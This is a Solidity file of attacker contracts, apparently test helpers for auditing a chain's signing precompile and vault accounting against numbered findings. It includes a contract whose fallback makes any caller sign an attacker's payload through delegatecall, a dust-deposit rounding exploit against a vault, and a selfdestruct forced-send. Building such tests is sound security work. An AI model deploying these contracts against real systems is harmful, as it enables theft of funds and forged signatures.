// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// What an attacker brings. A DELEGATECALL to a signing precompile acts as whoever called this contract (D1).

/// @notice Whoever calls it, for whatever reason, signs `payload`.
contract Thief {
    address private immutable PRECOMPILE;
    bytes private _payload;
    uint256 private _gasFloor;

    constructor(address precompile, bytes memory payload, uint256 gasFloor) {
        PRECOMPILE = precompile;
        _payload = payload;
        _gasFloor = gasFloor;
    }

    function run(address target, bytes calldata data) external payable returns (bool ok) {
        (ok,) = target.call{ value: msg.value }(data);
    }

    // Also answers price(): nothing here writes, so a STATICCALL gets as far as the precompile.
    fallback(bytes calldata) external payable returns (bytes memory) {
        if (gasleft() > _gasFloor) {
            (bool ok,) = PRECOMPILE.delegatecall(_payload);
            ok;
        }
        return abi.encode(1);
    }

    receive() external payable {
        if (gasleft() > _gasFloor) {
            (bool ok,) = PRECOMPILE.delegatecall(_payload);
            ok;
        }
    }
}

/// @notice Creation code whose creator signs `payload`.
contract ThiefAtBirth {
    constructor(address precompile, bytes memory payload) {
        (bool ok,) = precompile.delegatecall(payload);
        ok;
    }
}

interface IWeiVault {
    function deposit() external payable;
    function balanceOf(address account) external view returns (uint256);
    function withdrawTo(address payable to, uint256 amount) external;
}

/// @notice Deposits what the chain does not move (D3).
contract DustDepositor {
    function run(IWeiVault vault, uint256 times) external payable {
        for (uint256 i = 0; i < times; ++i) {
            vault.deposit{ value: 999_999_999 }();
        }
        uint256 credit = vault.balanceOf(address(this));
        vault.withdrawTo(payable(msg.sender), credit - credit % 1e9);
    }
}

/// @notice Sends all it owns where it likes, without asking (D21).
contract ForcedSender {
    constructor(address payable to) payable {
        selfdestruct(to);
    }
}
